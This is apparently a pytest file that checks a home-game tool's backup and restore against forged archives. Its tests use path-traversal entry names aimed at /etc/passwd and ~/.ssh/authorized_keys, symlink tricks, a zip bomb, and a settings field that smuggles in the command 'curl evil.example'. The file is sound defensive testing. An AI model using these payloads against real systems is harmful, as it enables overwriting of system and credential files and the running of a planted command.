"""A backup is the whole house in one file; a restore loses nothing, and unpacks nothing that no backup ever held."""

from __future__ import annotations

import io
import json
import os
import shutil
import stat
import zipfile
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from majordome.cli.commands import main
from majordome.errors import BadBackup
from majordome.service.backup import LABEL, LARGEST, look_through
from majordome.service.evenings_folder import newest, the_only_box
from majordome.settings.config import read_settings
from service.a_house import furnish


@pytest.fixture(autouse=True)
def elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))


@pytest.fixture
def config(tmp_path: Path) -> Path:
    return furnish(tmp_path / "house")


def files(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


def backup(config: Path, path: Path) -> Path:
    assert main(["--config", str(config), "--lang", "en", "backup", str(path)]) == 0
    return path


def restore(config: Path, path: Path) -> int:
    return main(["--config", str(config), "--lang", "en", "restore", str(path)])


PASSING = {"evenings/page.json", "evenings/majordome.log", "evenings/.playing"}


def test_another_box_becomes_the_same_box(config: Path, tmp_path: Path) -> None:
    os.utime(config.parent / "evenings" / "evening-1.journal", (2_000_000_000, 2_000_000_000))
    archive = backup(config, tmp_path / "b.zip")
    assert stat.S_IMODE(archive.stat().st_mode) == 0o600
    other = tmp_path / "other" / "majordome.toml"
    assert restore(other, archive) == 0
    before, after = files(config.parent), files(other.parent)
    assert {name: data for name, data in after.items() if name not in PASSING} == {
        name: data for name, data in before.items() if name not in PASSING
    }
    assert len(read_settings(other).evening.guests) == 10
    assert stat.S_IMODE((other.parent / "evenings" / "evening-1.journal").stat().st_mode) == 0o600
    latest = newest(other.parent / "evenings")
    assert latest is not None
    assert latest.name == "evening-1.journal"  # as before: the times came along


def test_a_box_without_a_config_is_packed_and_restored_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    evenings = tmp_path / "state" / "majordome" / "evenings"
    evenings.mkdir(parents=True)
    (evenings / "one.journal").write_bytes(b"an evening")
    assert main(["backup", str(tmp_path / "b.zip"), "--lang", "en"]) == 0
    assert capsys.readouterr().out == (
        f"{tmp_path / 'b.zip'}: 1 files. It holds the secrets of your evenings: keep it to yourself.\n"
    )
    (evenings / "one.journal").unlink()
    assert main(["restore", str(tmp_path / "b.zip")]) == 0
    assert (evenings / "one.journal").read_bytes() == b"an evening"


def test_what_stands_in_the_way_is_kept_and_what_is_the_same_is_left(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = backup(config, tmp_path / "b.zip")
    evenings = config.parent / "evenings"
    (evenings / "evening-2.journal").write_bytes(b"what was played since")
    (evenings / "evening-3.journal").write_bytes(b"and another evening")
    capsys.readouterr()
    assert restore(config, archive) == 0
    told = capsys.readouterr().out
    (kept,) = evenings.glob("evening-2.journal.before-*")
    assert kept.read_bytes() == b"what was played since"
    assert (evenings / "evening-3.journal").read_bytes() == b"and another evening"
    assert told.startswith("1 files restored and 6 left as they were")
    assert str(kept) in told


def test_a_box_that_plays_is_not_disturbed(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = backup(config, tmp_path / "b.zip")
    (config.parent / "evenings" / "evening-2.journal").write_bytes(b"being written")
    before = files(config.parent)
    with the_only_box(config.parent / "evenings"):
        assert restore(config, archive) == 2
    assert "leave that one first" in capsys.readouterr().err
    assert {**files(config.parent), "evenings/.playing": b""} == {**before, "evenings/.playing": b""}


def test_a_backup_is_never_overwritten(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "b.zip").write_text("mine")
    assert main(["--config", str(config), "backup", str(tmp_path / "b.zip")]) == 2
    assert "choose another name" in capsys.readouterr().err
    assert (tmp_path / "b.zip").read_text() == "mine"


# A backup may come from anybody.


def forged(path: Path, config: str, **more: str) -> Path:
    files = {"config/majordome.toml": config, "config/guests.toml": GUEST_LIST, **more}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(LABEL, label(**dict.fromkeys(files, 0.0)))
        for name, text in files.items():
            archive.writestr(name, text)
    return path


GUEST_LIST = "".join(f'[[guests]]\nname = "Guest {n}"\n' for n in range(10))


@pytest.mark.parametrize(
    ("settings", "what"),
    [
        ('[evening]\nguests = "{outside}/authorized_keys"', "guest list"),
        ('[evening]\nguests = "../outside/authorized_keys"', "guest list"),
        ('[journal]\nfolder = "{outside}"', "journals"),
        ('[sound]\npack = "{outside}"', "sounds"),
        ('[evening]\nguests = "~/.ssh/authorized_keys"', "guest list"),
        ('[box]\nparty_lock = "{outside}/precious"', "party lock"),
    ],
)
def test_a_backup_does_not_choose_where_it_is_unpacked(
    settings: str, what: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    path = forged(tmp_path / "b.zip", settings.format(outside=outside))
    before = files(tmp_path)
    assert restore(config, path) == 2
    told = capsys.readouterr().err
    assert what in told
    assert "nothing was restored" in told
    assert files(tmp_path) == before


def test_a_place_that_this_box_has_already_is_no_choice_of_the_backups(config: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere" / "guests.toml"
    own = config.read_text().replace("guests.toml", str(elsewhere))
    assert own != config.read_text()
    config.write_text(own)
    path = forged(tmp_path / "b.zip", own)
    assert restore(config, path) == 0
    assert elsewhere.read_text() == GUEST_LIST


def test_settings_that_cannot_be_read_are_told_before_anything_is_unpacked(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    for wrong in (
        "[evening]\nlang = 3",
        "[nonsense]\n",
        "= broken",
        '[evening]\nguests = "guests.toml"\ngame = "chess"',
    ):
        path = forged(tmp_path / "b.zip", wrong)
        before = files(tmp_path / "house")
        assert restore(config, path) == 2, wrong
        assert files(tmp_path / "house") == before
        assert capsys.readouterr().err.startswith("majordome: ")
        path.unlink()


def test_a_command_in_a_backup_is_not_taken_over_unasked(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = forged(tmp_path / "b.zip", '[box]\npower_off = "curl evil.example"\n')
    before = files(tmp_path / "house")
    assert restore(config, path) == 2
    told = capsys.readouterr().err
    assert "curl evil.example" in told
    assert "--trust" in told
    assert files(tmp_path / "house") == before
    assert main(["--config", str(config), "--lang", "en", "restore", str(path), "--trust"]) == 0
    assert read_settings(config).box.power_off == "curl evil.example"
    assert restore(config, path) == 0  # it is this box's own by now


@pytest.mark.parametrize(("said", "code"), [("y\n", 0), ("oui\n", 0), ("n\n", 2), ("\n", 2), ("", 2)])
def test_somebody_at_a_terminal_is_asked_about_the_command(
    config: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, said: str, code: int
) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    path = forged(tmp_path / "b.zip", '[box]\npower_off = "halt -p"\n')
    out = Terminal()
    monkeypatch.setattr("sys.stdin", Terminal(said))
    monkeypatch.setattr("sys.stdout", out)
    assert restore(config, path) == code
    assert "halt -p" in out.getvalue()


def test_a_link_among_the_evenings_does_not_lead_a_restore_away(config: Path, tmp_path: Path) -> None:
    """Whoever owns the folder of evenings shall not make root write elsewhere."""
    archive = backup(config, tmp_path / "b.zip")
    victim = tmp_path / "passwd"
    victim.write_text("root")
    journal = config.parent / "evenings" / "evening-1.journal"
    journal.unlink()
    journal.symlink_to(victim)
    assert restore(config, archive) == 0
    assert victim.read_text() == "root"
    assert not journal.is_symlink()
    (voices,) = {path.parent for path in config.parent.rglob("*.ogg")}
    shutil.move(voices, tmp_path / "aside")
    outside = tmp_path / "outside"
    outside.mkdir()
    voices.symlink_to(outside)
    assert restore(config, archive) == 2
    assert list(outside.iterdir()) == []


def label(**times: float) -> str:
    return json.dumps({"format": 1, "majordome": "0.1.0", "made": 0, "times": times})


@pytest.mark.parametrize(
    "name",
    [
        "../evil.journal",
        "/etc/passwd",
        "evenings/../../evil.journal",
        "evenings/.ssh/authorized_keys",
        "evenings/sub/a.journal",
        "evenings/..journal",
        "evenings\\evil.journal",
        "config/other.toml",
        "sounds/fr/run.sh",
        "sounds/../evil.ogg",
        "evenings/",
        "",
    ],
)
def test_a_trunk_with_a_path_that_no_backup_has_is_refused_as_a_whole(name: str, config: Path, tmp_path: Path) -> None:
    path = tmp_path / "b.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(LABEL, label(**{"evenings/good.journal": 0.0, name: 0.0}))
        archive.writestr("evenings/good.journal", "good")
        archive.writestr(zipfile.ZipInfo(name) if name else zipfile.ZipInfo("x"), "evil")
    before = files(tmp_path)
    assert restore(config, path) == 2
    assert files(tmp_path) == before


def test_a_link_is_not_unpacked(config: Path, tmp_path: Path) -> None:
    path, link = tmp_path / "b.zip", zipfile.ZipInfo("evenings/a.journal")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(LABEL, label(**{"evenings/a.journal": 0.0}))
        archive.writestr(link, "/etc/passwd")
    assert restore(config, path) == 2


def test_a_trunk_that_swells_is_not_unpacked(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "b.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(LABEL, label(**{"evenings/a.journal": 0.0}))
        archive.writestr("evenings/a.journal", bytes(LARGEST + 1))
    assert path.stat().st_size < 200_000
    assert restore(config, path) == 2
    assert "larger than anything a box keeps" in capsys.readouterr().err


def test_a_trunk_of_another_time_says_which_version_packed_it(config: Path, tmp_path: Path) -> None:
    path = tmp_path / "b.zip"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(LABEL, json.dumps({"format": 2, "majordome": "9.0", "times": {}}))
    with pytest.raises(BadBackup, match=r"packed by version 9\.0"):
        look_through(path)


@pytest.fixture(scope="module")
def a_backup(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    folder = tmp_path_factory.mktemp("house")
    return backup(furnish(folder / "house"), folder / "b.zip").read_bytes()


@settings(deadline=None)
@given(where=st.floats(0, 1, exclude_max=True), bit=st.integers(0, 7), cut=st.booleans())
def test_a_damaged_trunk_is_refused_or_whole_but_never_another_one(
    where: float, bit: int, cut: bool, a_backup: bytes, tmp_path_factory: pytest.TempPathFactory
) -> None:
    data, place = bytearray(a_backup), int(where * len(a_backup))
    if cut:
        del data[place:]
    else:
        data[place] ^= 1 << bit
    path = tmp_path_factory.mktemp("damaged") / "b.zip"
    path.write_bytes(a_backup)
    whole = look_through(path)
    path.write_bytes(data)
    with suppress(BadBackup):
        assert look_through(path).files == whole.files
